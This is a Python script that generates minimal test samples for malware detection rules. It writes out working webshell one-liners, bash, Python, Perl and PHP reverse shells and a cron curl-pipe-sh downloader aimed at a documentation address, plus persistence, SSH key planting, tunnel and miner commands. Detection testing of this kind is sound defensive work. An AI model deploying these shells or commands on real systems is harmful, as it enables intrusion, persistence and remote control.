#!/usr/bin/env python3
"""make_samples.py FOLDER: writes one harmless positive sample per starter rule, FOLDER/<rule>.

A sample is the smallest file with the marks its rule looks for. None does anything: programs have
no code, scripts name documentation addresses (RFC 5737, RFC 2606) and are not executable. They are
made and not kept, in parts, so that no virus scanner takes this repository for what it describes.
"""

import pathlib
import struct
import sys

ELF_EXEC, ELF_DYN = 2, 3
READ, WRITE, EXECUTE = 4, 2, 1
HOST = "192.0.2.1"


def elf(body=b"", kind=ELF_EXEC, flags=READ | EXECUTE, section_offset=0, sections=0):
    """A 64-bit ELF file with one loadable segment. Source: System V ABI, chapters 4 and 5."""
    header = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9)
    header += struct.pack("<HHIQQQIHHHHHH", kind, 62, 1, 0x400078, 64, section_offset, 0,
                          64, 56, 1, 64 if sections else 0, sections, 0)
    size = 64 + 56 + len(body)
    segment = struct.pack("<IIQQQQQQ", 1, flags, 0, 0x400000, 0x400000, size, size, 0x1000)
    return header + segment + body


def pe(*section_names):
    """A 32-bit PE file with empty sections. Source: Microsoft, "PE Format"."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    coff = struct.pack("<HHIIIHH", 0x14C, len(section_names), 0, 0, 0, 224, 0x102)
    optional = struct.pack("<HBBIIIIII", 0x10B, 0, 0, 0, 0, 0, 0x1000, 0x1000, 0x1000)
    optional += struct.pack("<IIIHHHHHHIIIIHHIIIIII", 0x400000, 0x1000, 0x200, 4, 0, 0, 0, 4, 0, 0,
                            0x10000, 0x400, 0, 3, 0, 0, 0, 0, 0, 0, 16)
    optional += bytes(224 - len(optional))
    table = b""
    for index, name in enumerate(section_names):
        table += struct.pack("<8sIIIIIIHHI", name.encode(), 0x1000, 0x1000 * (index + 1),
                             0x200, 0x400 + 0x200 * index, 0, 0, 0, 0, 0x60000020)
    image = dos + b"PE\0\0" + coff + optional + table
    return image + bytes(0x400 + 0x200 * len(section_names) - len(image))


def text(*parts):
    return "".join(parts).encode() + b"\n"


def lines(*parts):
    return b"\0".join(part.encode() for part in parts) + b"\0"


PACKERS = {
    "packer_upx_elf": elf(b"UP" b"X!" + bytes(16)
                          + b"$Info: This file is packed with the " b"UPX executable packer $"),
    "packer_upx_elf_disguised": elf(b"PROT_EXEC|PROT_WRITE" b" failed.\n"),
    "packer_upx_pe": pe("UPX" "0", "UPX" "1", ".rsrc"),
    "packer_aspack_pe": pe(".text", ".as" "pack", ".ad" "ata"),
    "packer_mpress_pe": pe(".MPR" "ESS1", ".MPR" "ESS2"),
    "packer_protector_pe": pe(".text", ".vm" "p0"),
}

WEBSHELLS = {
    "webshell_php_eval_request": text("<?php @ev", "al($_PO", "ST['x']); ?>"),
    "webshell_php_command_request": text("<?php echo shell_", "exec($_G", "ET['x']); ?>"),
    "webshell_php_packed_eval": text("<?php ev", "al(gzin", "flate(base64_", "decode('AA==')));"),
    "webshell_php_variable_call": text("<?php $_GE", "T['f']($_PO", "ST['x']); ?>"),
    "webshell_jsp_command_request": text(
        "<%@ page import=\"java.io.*\" %><% Runtime.getRun", "time().ex",
        "ec(request.getPara", "meter(\"x\")); %>"),
    "webshell_jsp_class_from_request": text(
        "<%! class U extends Class", "Loader { Class g(byte[] b) { return super.define",
        "Class(b, 0, b.length); } } %><% Cipher c = Cipher.get", "Instance(\"AE", "S\"); ",
        "new U().g(c.doFinal(request.get", "Reader().readLine())).new", "Instance(); %>"),
    "webshell_aspx_eval_request": text(
        "<%@ Page Language=\"JSc", "ript\" %><% ev", "al(Request.It", "em[\"x\"], \"un", "safe\"); %>"),
    "webshell_aspx_command_request": text(
        "<%@ Page Language=\"C#\" %><% var p = new ProcessStart", "Info(\"cm", "d.exe\"); ",
        "p.Argu", "ments = \"/c \" + Request[\"x\"]; p.RedirectStandard", "Output = true; %>"),
    "webshell_asp_execute_request": text("<% exe", "cute(req", "uest(\"x\")) %>"),
}

MINERS = {
    "miner_stratum_client": elf(lines("stra" "tum+tcp://pool.example:3333", "mining.sub" "scribe",
                                      "mining.autho" "rize", "mining.sub" "mit")),
    "miner_xmrig_program": elf(lines("donate.v2.xm" "rig.com", "donate-level", "cryptonight" "-lite")),
    "miner_xmrig_configuration": text(
        "{\"donate-", "level\": 1, \"random", "x\": {\"mode\": \"auto\"}, ",
        "\"po", "ols\": [{\"url\": \"pool.example:3333\", \"user\": \"nobody\"}]}"),
    "miner_launch_command": text(
        "./miner -o stra", "tum+tcp://pool.example:3333 -u 4", "A" * 94, " -p x"),
    "miner_rival_cleanup": text(
        "pk", "ill -f kin", "sing\npk", "ill -f kdev", "tmpfsi\n",
        "ps aux | grep xm", "rig | awk '{print $2}' | xargs ki", "ll -9"),
}

TEST_FILES = {
    "test_eicar": text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"),
}

ELF_ODDITIES = {
    "elf_writable_code_without_sections": elf(bytes(16), flags=READ | WRITE | EXECUTE),
    "elf_section_table_outside_file": elf(bytes(16), section_offset=1 << 20, sections=8),
    "elf_preload_rootkit": elf(lines("/etc/ld.so.pre" "load", "dls" "ym", "readd" "ir64",
                                     "pam_authen" "ticate", "fop" "en64", "/proc/net" "/tcp"),
                               kind=ELF_DYN),
}

SCRIPTS = {
    "script_reverse_shell_bash": text("ba", "sh -i >& /dev", f"/tcp/{HOST}/4444 0>&1"),
    "script_reverse_shell_python": text(
        "import os, pty, socket\ns = socket.socket()\ns.conn", f"ect((\"{HOST}\", 4444))\n",
        "os.du", "p2(s.fileno(), 0)\npty.sp", "awn(\"sh\")"),
    "script_reverse_shell_perl": text(
        "use So", "cket;\nopen(STD", "IN, \">&S\");\nex", "ec(\"/bin/sh -i\");"),
    "script_reverse_shell_php": text(
        f"<?php $s = fsock", f"open(\"{HOST}\", 4444); ex", "ec(\"/bin/sh -i <", "&3 >&3 2>&3\");"),
    "script_reverse_shell_pipe": text(
        "mkf", "ifo /tmp/f; cat /tmp/f | /bin/s", f"h -i 2>&1 | n", f"c {HOST} 4444 > /tmp/f"),
    "script_download_and_run_from_cron": text(
        "echo '*/5 * * * * cu", f"rl -fsSL http://{HOST}/a.sh | s", "h' | cron", "tab -"),
    "script_preload_persistence": text("echo /usr/lib/x.so > /etc/ld.so", ".preload"),
    "script_memory_only_program": text(
        "my $fd = sys", "call(319, $name, 1);\nexec {\"/pro", "c/$$/fd/$fd\"} \"x\";"),
    "script_powershell_hidden_download": text(
        "powershell -w hid", "den -c \"IE", "X (New-Object Net.WebClient).Download",
        "String('http://192.0.2.1/')\""),
    "script_python_packed_exec": text(
        "import base64, zlib\nex", "ec(zlib.decom", "press(base64.b64", "decode(b'AA==')))"),
}


DOCUMENTS = {
    "document_rtf_equation_object": text(
        "{\\rtf1{\\object\\objemb{\\*\\obj", "data 0105000002000000", "45717561", "74696f6e2e33", "00}}}"),
    "document_rtf_packaged_program": text(
        "{\\rtf1{\\object\\objemb{\\*\\obj", "data 0105000002000000", "5061636b", "616765", "00",
        "612e6578", "6500}}}"),
    "document_pdf_launches_shell": text(
        "%PDF-1.4\n1 0 obj<</Open", "Action<</S/Lau", "nch/Win<</F(cm", "d.exe)>>>>>>endobj"),
    "document_shortcut_fetches_code": struct.pack("<II", 0x4C, 0x21401) + bytes(68)
                                      + ("msh" "ta ht" "tp://192.0.2.1/").encode("utf-16-le"),
    "document_html_smuggles_file": text(
        "<script>b = new Bl", "ob([at", "ob(x)]); a.href = URL.createObject", "URL(b); ",
        "a.down", "load = \"order.is", "o\"; a.cl", "ick();</script>"),
    "document_hta_runs_shell": text(
        "<hta:appli", "cation><script>new ActiveXObject('WScript.Sh", "ell').Ru", "n('power", "shell x')</script>"),
    "document_onenote_embeds_script": bytes.fromhex("e4525c7b8cd8a74d" "aeb15378d02996d3") + bytes(64)
                                      + bytes.fromhex("e716e3bd65261145" "a4c48d4d0b7a9eac")
                                      + text("@ec", "ho off"),
    "document_sylk_command": text("ID;P\nO;E\nC;X1;Y1", ";EEX", "EC(\"x\")"),
}

FOOTHOLDS = {
    "foothold_ssh_key_planted": text(
        "ec", "ho ssh-rsa ", "A" * 40, " >> /root/.ssh/autho", "rized_keys\nchat", "tr +i /root/.ssh/autho", "rized_keys"),
    "foothold_reverse_tunnel_service": text(
        "[Service]\nRest", "art=always\nExecStart=/usr/bin/ss", "h -o StrictHostKey", "Checking=no -N",
        "R 2222:localhost:2", "2 u@192.0.2.1"),
    "foothold_proxy_client_configuration": text(
        "[common]\nserver_", "addr = 192.0.2.1\nserver_", "port = 7000\n[s]\nplu", "gin = socks5\nremote_",
        "port = 6000"),
    "ransom_note_text": text(
        "Your files have been enc", "rypted. Pay in bit", "coin at ", "a" * 56, ".oni", "on"),
    "script_windows_downloader": text(
        "var x = new ActiveXObject('MSXML2.XML", "HTTP'), s = new ActiveXObject('ADO", "DB.Stream');\n",
        "s.SaveTo", "File(f); w.Ru", "n(f);"),
}


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    folder = pathlib.Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for group in (PACKERS, WEBSHELLS, MINERS, TEST_FILES, ELF_ODDITIES, SCRIPTS, DOCUMENTS,
                  FOOTHOLDS):
        for rule, sample in group.items():
            (folder / rule).write_bytes(sample)


if __name__ == "__main__":
    main()
